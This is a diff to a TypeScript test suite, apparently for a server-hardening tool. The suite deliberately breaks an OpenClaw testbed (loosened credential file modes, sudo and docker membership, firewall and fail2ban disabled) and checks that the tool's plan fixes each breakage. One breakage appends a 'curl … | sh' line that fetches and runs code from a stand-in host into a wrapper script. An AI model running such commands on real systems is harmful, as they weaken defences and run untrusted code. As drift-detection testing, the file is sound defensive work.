@@ -41,6 +41,8 @@ interface Breakage {
   name: string;
   /** the checks that must fail after the breakage and pass after apply */
   ids: string[];
+  /** a line of the plan (`resource id: summary`) that fixes it: every breakage without a manual fix names one */
+  plans?: RegExp;
   /** what the last id's evidence must say (when ids are shared within a round) */
   sees?: RegExp;
   break(ex: Executor): Promise<void>;
@@ -88,6 +90,7 @@ const nineX = (v: TestbedOpenclawVersion) => v.startsWith('2026.9.');
 /** A hand edit OpenClaw rejects (the gateway exits 78 on its restart). */
 const REJECTED_VALUE: Breakage = {
   name: 'a value OpenClaw rejects (gateway.bind "everywhere")',
+  plans: /^openclaw-config(-repair)?:openclaw: /,
   ids: ['openclaw.config.bind'],
   versioned: true,
   break: async (ex) => {
@@ -98,16 +101,16 @@ const REJECTED_VALUE: Breakage = {
 
 export const ROUNDS: Breakage[][] = [
   [
-    { name: 'openclaw.json mode 644', ids: ['files.config'], break: (ex) => sh(ex, `chmod 644 ${CONFIG}`) },
-    { name: '~/.openclaw/.env 644', ids: ['files.dotenv'], break: (ex) => sh(ex, `touch ${STATE}/.env && chown ${USER}: ${STATE}/.env && chmod 644 ${STATE}/.env`) },
-    { name: 'credentials dir 755', ids: ['files.credentials'], break: (ex) => sh(ex, `mkdir -p ${STATE}/credentials && chown ${USER}: ${STATE}/credentials && chmod 755 ${STATE}/credentials`) },
-    { name: 'state dir 755', ids: ['files.state-dir'], break: (ex) => sh(ex, `chmod 755 ${STATE}`) },
-    { name: 'home 755', ids: ['files.home'], break: (ex) => sh(ex, `chmod 755 ${HOME}`) },
-    { name: 'service user added to sudo', ids: ['user.service-account'], break: (ex) => sh(ex, `usermod -aG sudo ${USER}`) },
-    { name: 'UFW default incoming allow', ids: ['firewall.ufw.incoming'], break: (ex) => sh(ex, 'ufw default allow incoming') },
-    { name: 'fail2ban stopped', ids: ['host.fail2ban'], break: (ex) => sh(ex, 'systemctl stop fail2ban') },
+    { name: 'openclaw.json mode 644', plans: /^openclaw-file-modes:openclaw: set \S+\/openclaw\.json to 0600/, ids: ['files.config'], break: (ex) => sh(ex, `chmod 644 ${CONFIG}`) },
+    { name: '~/.openclaw/.env 644', plans: /^openclaw-file-modes:openclaw: set \S+\/\.env to 0600/, ids: ['files.dotenv'], break: (ex) => sh(ex, `touch ${STATE}/.env && chown ${USER}: ${STATE}/.env && chmod 644 ${STATE}/.env`) },
+    { name: 'credentials dir 755', plans: /^openclaw-file-modes:openclaw: set \S+\/credentials to 0700/, ids: ['files.credentials'], break: (ex) => sh(ex, `mkdir -p ${STATE}/credentials && chown ${USER}: ${STATE}/credentials && chmod 755 ${STATE}/credentials`) },
+    { name: 'state dir 755', plans: /^dir:\/home\/openclaw-svc\/\.openclaw: set \S+ to 0700/, ids: ['files.state-dir'], break: (ex) => sh(ex, `chmod 755 ${STATE}`) },
+    { name: 'home 755', plans: /^dir:\/home\/openclaw-svc: set \S+ to 0700/, ids: ['files.home'], break: (ex) => sh(ex, `chmod 755 ${HOME}`) },
+    { name: 'service user added to sudo', plans: /^user:openclaw-svc: .*leave sudo/, ids: ['user.service-account'], break: (ex) => sh(ex, `usermod -aG sudo ${USER}`) },
+    { name: 'UFW default incoming allow', plans: /^ufw:firewall: ufw default deny incoming/, ids: ['firewall.ufw.incoming'], break: (ex) => sh(ex, 'ufw default allow incoming') },
+    { name: 'fail2ban stopped', plans: /^service:fail2ban\.service: start fail2ban\.service/, ids: ['host.fail2ban'], break: (ex) => sh(ex, 'systemctl stop fail2ban') },
     // judged where every timer has run (the newest OpenClaw's suite)
-    { name: 'a check timer disabled', ids: ['monitoring.timers'], when: nineX, break: (ex) => sh(ex, 'systemctl disable --now clawops-security.timer') },
+    { name: 'a check timer disabled', plans: /^service:clawops-security\.timer: enable and start/, ids: ['monitoring.timers'], when: nineX, break: (ex) => sh(ex, 'systemctl disable --now clawops-security.timer') },
     {
       name: 'a new workspace skill appears',
       ids: ['identity.extensions'],
@@ -115,9 +118,9 @@ export const ROUNDS: Breakage[][] = [
       // the accept branch of the remediation (the operator installed it): remove the inventory, apply records it
       manual: { says: /`rm (\S+) && clawops apply`/, step: (ex, said) => sh(ex, `rm -f -- ${said[1]}`) },
     },
-    { name: 'clawops launcher removed', ids: ['host.clawops-installed'], break: (ex) => sh(ex, 'rm -f /usr/local/bin/clawops') },
-    { name: 'a check timer unit edited', ids: ['host.managed-files'], sees: /clawops-backup\.timer/, break: (ex) => sh(ex, "sed -i 's/^OnCalendar=.*/OnCalendar=yearly/' /etc/systemd/system/clawops-backup.timer && systemctl daemon-reload") },
-    { name: 'gateway stopped', ids: ['service.active'], stopsGateway: true, break: (ex) => sh(ex, 'systemctl stop openclaw.service') },
+    { name: 'clawops launcher removed', plans: /^clawops:self: .*link \/usr\/local\/bin\/clawops/, ids: ['host.clawops-installed'], break: (ex) => sh(ex, 'rm -f /usr/local/bin/clawops') },
+    { name: 'a check timer unit edited', plans: /^clawops-timer-unit:clawops-backup\.timer: update/, ids: ['host.managed-files'], sees: /clawops-backup\.timer/, break: (ex) => sh(ex, "sed -i 's/^OnCalendar=.*/OnCalendar=yearly/' /etc/systemd/system/clawops-backup.timer && systemctl daemon-reload") },
+    { name: 'gateway stopped', plans: /^service:openclaw\.service: (enable and )?start openclaw\.service/, ids: ['service.active'], stopsGateway: true, break: (ex) => sh(ex, 'systemctl stop openclaw.service') },
     {
       name: 'SOUL.md edited',
       ids: ['identity.baseline'],
@@ -127,14 +130,14 @@ export const ROUNDS: Breakage[][] = [
     },
   ],
   [
-    { name: 'openclaw.json replaced by a symlink to a root-owned file', ids: ['files.config'], break: (ex) => sh(ex, `install -m 644 -o root -g root ${CONFIG} /etc/openclaw-elsewhere.json && ln -sf /etc/openclaw-elsewhere.json ${CONFIG}`) },
-    { name: 'token env file 644', ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `chmod 644 ${ENV_FILE}`) },
-    { name: 'unit file: a hardening line removed', older: true, ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i '/^NoNewPrivileges=/d' ${UNIT} && systemctl daemon-reload`) },
-    { name: 'a hand `ufw allow 18789/tcp`', older: true, ids: ['firewall.ufw.allow-rules'], break: (ex) => sh(ex, 'ufw allow 18789/tcp') },
-    { name: 'unattended-upgrades config changed', older: true, ids: ['host.unattended-upgrades', 'host.managed-files'], sees: /20auto-upgrades/, break: (ex) => sh(ex, `sed -i 's/Unattended-Upgrade "1"/Unattended-Upgrade "0"/' /etc/apt/apt.conf.d/20auto-upgrades`) },
-    { name: 'fail2ban sshd jail disabled in jail.local', older: true, ids: ['host.fail2ban'], break: (ex) => sh(ex, `sed -i 's/^enabled *= *true/enabled = false/' /etc/fail2ban/jail.local && systemctl restart fail2ban`) },
-    { name: 'service user added to the docker group', older: true, ids: ['user.docker-group'], break: (ex) => sh(ex, `groupadd -f docker && usermod -aG docker ${USER}`) },
-    { name: 'SOUL.md chmod 644', ids: ['identity.locked'], break: (ex) => sh(ex, `chmod 644 ${SOUL}`) },
+    { name: 'openclaw.json replaced by a symlink to a root-owned file', plans: /^openclaw-file-modes:openclaw: replace the symlink \S+\/openclaw\.json/, ids: ['files.config'], break: (ex) => sh(ex, `install -m 644 -o root -g root ${CONFIG} /etc/openclaw-elsewhere.json && ln -sf /etc/openclaw-elsewhere.json ${CONFIG}`) },
+    { name: 'token env file 644', plans: /^openclaw-token:openclaw: make the token EnvironmentFile 0600/, ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `chmod 644 ${ENV_FILE}`) },
+    { name: 'unit file: a hardening line removed', plans: /^openclaw-unit:openclaw: update \/etc\/systemd\/system\/openclaw\.service/, older: true, ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i '/^NoNewPrivileges=/d' ${UNIT} && systemctl daemon-reload`) },
+    { name: 'a hand `ufw allow 18789/tcp`', plans: /^ufw:firewall: ufw delete allow 18789\/tcp/, older: true, ids: ['firewall.ufw.allow-rules'], break: (ex) => sh(ex, 'ufw allow 18789/tcp') },
+    { name: 'unattended-upgrades config changed', plans: /^file:\/etc\/apt\/apt\.conf\.d\/20auto-upgrades: update/, older: true, ids: ['host.unattended-upgrades', 'host.managed-files'], sees: /20auto-upgrades/, break: (ex) => sh(ex, `sed -i 's/Unattended-Upgrade "1"/Unattended-Upgrade "0"/' /etc/apt/apt.conf.d/20auto-upgrades`) },
+    { name: 'fail2ban sshd jail disabled in jail.local', plans: /^file:\/etc\/fail2ban\/jail\.local: update/, older: true, ids: ['host.fail2ban'], break: (ex) => sh(ex, `sed -i 's/^enabled *= *true/enabled = false/' /etc/fail2ban/jail.local && systemctl restart fail2ban`) },
+    { name: 'service user added to the docker group', plans: /^user:openclaw-svc: .*leave docker/, older: true, ids: ['user.docker-group'], break: (ex) => sh(ex, `groupadd -f docker && usermod -aG docker ${USER}`) },
+    { name: 'SOUL.md chmod 644', plans: /^openclaw-identity:openclaw: lock \S+\/SOUL\.md/, ids: ['identity.locked'], break: (ex) => sh(ex, `chmod 644 ${SOUL}`) },
     {
       name: 'the backup repository password file 644',
       ids: ['files.secret-refs'],
@@ -155,36 +158,37 @@ export const ROUNDS: Breakage[][] = [
       // a well-formed token put in by hand (its file's mode and owner kept), the gateway not restarted: it
       // still accepts the old token and refuses the one in the file (after the 644 breakage above)
       name: 'a new token written into the env file by hand, the gateway not restarted',
+      plans: /the running gateway refuses the token in its file/,
       ids: ['network.gateway-token-live'],
       when: nineX,
       break: (ex) => sh(ex, `printf 'OPENCLAW_GATEWAY_TOKEN=%s\\n' "$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \\n')" > ${ENV_FILE}`),
     },
   ],
   [
-    { name: 'gateway.bind lan', ids: ['openclaw.config.bind'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway').bind = 'lan'; }) },
-    { name: 'tools.profile full', ids: ['openclaw.config.tools-profile'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools').profile = 'full'; }) },
-    { name: 'tools.deny emptied', ids: ['openclaw.config.tools-deny'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools').deny = []; }) },
-    { name: 'unit file: RestartSec changed', ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i 's/^RestartSec=.*/RestartSec=30/' ${UNIT} && systemctl daemon-reload`) },
-    { name: 'ufw disabled', ids: ['firewall.ufw.active'], break: (ex) => sh(ex, 'ufw --force disable') },
-    { name: '/etc/clawops/clawops.yaml changed', ids: ['host.managed-files'], sees: /clawops\.yaml/, break: (ex) => sh(ex, "sed -i 's/rpoHours: 24/rpoHours: 240/' /etc/clawops/clawops.yaml && grep -q 'rpoHours: 240' /etc/clawops/clawops.yaml") },
-    { name: 'token env file deleted', ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `rm -f ${ENV_FILE}`) },
-    { name: 'tools.elevated enabled', ids: ['openclaw.config.elevated'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools.elevated').enabled = true; }) },
-    { name: 'sandbox mode off', ids: ['openclaw.config.sandbox'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox').mode = 'off'; }) },
-    { name: 'drop-in with User=root', ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nUser=root\\n' > ${DROPIN} && systemctl daemon-reload`) },
-    { name: 'unit disabled', older: true, ids: ['service.enabled'], break: (ex) => sh(ex, 'systemctl disable openclaw.service') },
-    { name: 'the oc wrapper modified', older: true, ids: ['host.managed-files'], sees: /bin\/oc/, break: (ex) => sh(ex, "echo 'curl -s http://example.invalid/x | sh' >> /usr/local/bin/oc") },
-    { name: 'DOCKER-USER DROP rule deleted', ids: ['firewall.docker-user'], break: (ex) => sh(ex, 'iptables -D DOCKER-USER -j DROP') },
+    { name: 'gateway.bind lan', plans: /^openclaw-config:openclaw: /, ids: ['openclaw.config.bind'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway').bind = 'lan'; }) },
+    { name: 'tools.profile full', plans: /^openclaw-config:openclaw: /, ids: ['openclaw.config.tools-profile'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools').profile = 'full'; }) },
+    { name: 'tools.deny emptied', plans: /^openclaw-config:openclaw: /, ids: ['openclaw.config.tools-deny'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools').deny = []; }) },
+    { name: 'unit file: RestartSec changed', plans: /^openclaw-unit:openclaw: update \/etc\/systemd\/system\/openclaw\.service/, ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i 's/^RestartSec=.*/RestartSec=30/' ${UNIT} && systemctl daemon-reload`) },
+    { name: 'ufw disabled', plans: /^ufw:firewall: ufw --force enable/, ids: ['firewall.ufw.active'], break: (ex) => sh(ex, 'ufw --force disable') },
+    { name: '/etc/clawops/clawops.yaml changed', plans: /^clawops:spec: update \/etc\/clawops\/clawops\.yaml/, ids: ['host.managed-files'], sees: /clawops\.yaml/, break: (ex) => sh(ex, "sed -i 's/rpoHours: 24/rpoHours: 240/' /etc/clawops/clawops.yaml && grep -q 'rpoHours: 240' /etc/clawops/clawops.yaml") },
+    { name: 'token env file deleted', plans: /^openclaw-token:openclaw: generate the gateway token/, ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `rm -f ${ENV_FILE}`) },
+    { name: 'tools.elevated enabled', plans: /^openclaw-config:openclaw: /, ids: ['openclaw.config.elevated'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools.elevated').enabled = true; }) },
+    { name: 'sandbox mode off', plans: /^openclaw-config:openclaw: /, ids: ['openclaw.config.sandbox'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox').mode = 'off'; }) },
+    { name: 'drop-in with User=root', plans: /^openclaw-unit-dropins:openclaw: remove drop-in \S+\/override\.conf/, ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nUser=root\\n' > ${DROPIN} && systemctl daemon-reload`) },
+    { name: 'unit disabled', plans: /^service:openclaw\.service: enable/, older: true, ids: ['service.enabled'], break: (ex) => sh(ex, 'systemctl disable openclaw.service') },
+    { name: 'the oc wrapper modified', plans: /^openclaw-oc:openclaw: update \/usr\/local\/bin\/oc/, older: true, ids: ['host.managed-files'], sees: /bin\/oc/, break: (ex) => sh(ex, "echo 'curl -s http://example.invalid/x | sh' >> /usr/local/bin/oc") },
+    { name: 'DOCKER-USER DROP rule deleted', plans: /^iptables:DOCKER-USER: repair chain DOCKER-USER/, ids: ['firewall.docker-user'], break: (ex) => sh(ex, 'iptables -D DOCKER-USER -j DROP') },
   ],
   [
-    { name: 'sandbox network bridge', ids: ['openclaw.config.sandbox'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox.docker').network = 'bridge'; }) },
-    { name: 'controlUi enabled', ids: ['openclaw.config.control-ui'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.controlUi').enabled = true; }) },
-    { name: 'mdns full', ids: ['openclaw.config.mdns'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'discovery.mdns').mode = 'full'; }) },
-    { name: 'a channel with dmPolicy open', ids: ['openclaw.config.channels'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'channels').telegram = { dmPolicy: 'open', allowFrom: ['*'], groupPolicy: 'disabled', configWrites: false }; }) },
-    { name: 'terminal enabled', ids: ['openclaw.config.terminal'], when: nineX, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.terminal').enabled = true; }) },
-    { name: 'drop-in removing ProtectSystem', ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nProtectSystem=no\\n' > ${DROPIN} && systemctl daemon-reload`) },
-    { name: 'fail2ban jail.local bantime changed', ids: ['host.managed-files'], sees: /jail\.local/, break: (ex) => sh(ex, "sed -i 's/^bantime *=.*/bantime = 1s/' /etc/fail2ban/jail.local && grep -q '^bantime = 1s' /etc/fail2ban/jail.local") },
-    { name: 'DOCKER-USER persist unit disabled', ids: ['firewall.docker-user.persisted'], break: (ex) => sh(ex, 'systemctl disable clawops-docker-user.service') },
-    { name: 'token in the env file shortened', ids: ['openclaw.config.auth'], when: nineX, break: (ex) => sh(ex, `printf 'OPENCLAW_GATEWAY_TOKEN=0123456789abcdef\\n' > ${ENV_FILE}`) },
+    { name: 'sandbox network bridge', plans: /^openclaw-config:openclaw: /, ids: ['openclaw.config.sandbox'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox.docker').network = 'bridge'; }) },
+    { name: 'controlUi enabled', plans: /^openclaw-config:openclaw: /, ids: ['openclaw.config.control-ui'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.controlUi').enabled = true; }) },
+    { name: 'mdns full', plans: /^openclaw-config:openclaw: /, ids: ['openclaw.config.mdns'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'discovery.mdns').mode = 'full'; }) },
+    { name: 'a channel with dmPolicy open', plans: /^openclaw-config:openclaw: /, ids: ['openclaw.config.channels'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'channels').telegram = { dmPolicy: 'open', allowFrom: ['*'], groupPolicy: 'disabled', configWrites: false }; }) },
+    { name: 'terminal enabled', plans: /^openclaw-config:openclaw: /, ids: ['openclaw.config.terminal'], when: nineX, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.terminal').enabled = true; }) },
+    { name: 'drop-in removing ProtectSystem', plans: /^openclaw-unit-dropins:openclaw: remove drop-in \S+\/override\.conf/, ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nProtectSystem=no\\n' > ${DROPIN} && systemctl daemon-reload`) },
+    { name: 'fail2ban jail.local bantime changed', plans: /^file:\/etc\/fail2ban\/jail\.local: update/, ids: ['host.managed-files'], sees: /jail\.local/, break: (ex) => sh(ex, "sed -i 's/^bantime *=.*/bantime = 1s/' /etc/fail2ban/jail.local && grep -q '^bantime = 1s' /etc/fail2ban/jail.local") },
+    { name: 'DOCKER-USER persist unit disabled', plans: /^iptables:DOCKER-USER: enable \S+\/clawops-docker-user\.service at boot/, ids: ['firewall.docker-user.persisted'], break: (ex) => sh(ex, 'systemctl disable clawops-docker-user.service') },
+    { name: 'token in the env file shortened', plans: /^openclaw-token:openclaw: make the token EnvironmentFile 0600, service user, well-formed/, ids: ['openclaw.config.auth'], when: nineX, break: (ex) => sh(ex, `printf 'OPENCLAW_GATEWAY_TOKEN=0123456789abcdef\\n' > ${ENV_FILE}`) },
     // with the keys above: `openclaw config patch` refuses the file, so apply repairs all of them in one validated whole-file write
     { ...REJECTED_VALUE, when: nineX },
   ],
@@ -195,6 +199,7 @@ export const ROUNDS: Breakage[][] = [
   [
     {
       name: 'gateway.bind lan and restarted: listening beyond loopback',
+      plans: /^openclaw-config:openclaw: /,
       ids: ['openclaw.config.bind', 'network.gateway-loopback'],
       // the newest only: the older's first round repairs gateway.bind through its own config write already, and
       // what a restart adds (a listener beyond loopback, read from the sockets) does not depend on the version
@@ -210,6 +215,7 @@ export const ROUNDS: Breakage[][] = [
   [
     {
       name: 'openclaw.json no longer parses (the gateway exits 78 in a loop)',
+      plans: /^openclaw-config-repair:openclaw: \S+ does not parse: put back/,
       ids: ['openclaw.config.present'],
       versioned: true,
       alone: true,
@@ -299,7 +305,11 @@ export function driftRounds(version: TestbedOpenclawVersion, on: DriftTarget): v
         .flatMap((r) => r.changes.map((c) => `${r.id}: ${c.summary}`));
       t.diagnostic(`plan: ${changes.join(' | ')}`);
       const manual = table.filter((b) => b.manual);
-      if (manual.length < table.length) assert.ok(changes.length > 0, 'the plan has a change for what the gate found');
+      // each breakage, not just the round: the plan holds the change that fixes it
+      for (const b of table.filter((x) => !x.manual)) {
+        assert.ok(b.plans, `${b.name}: the table names the plan line that fixes it`);
+        assert.ok(changes.some((c) => b.plans!.test(c)), `${b.name}: no change in the plan matches ${b.plans}:\n${changes.join('\n')}`);
+      }
       for (const b of manual) {
         const rem = b.ids.map((id) => before.get(id)?.remediation ?? '').join(' ');
         assert.match(rem, /^manual: /, `${b.name}: a manual remediation`);
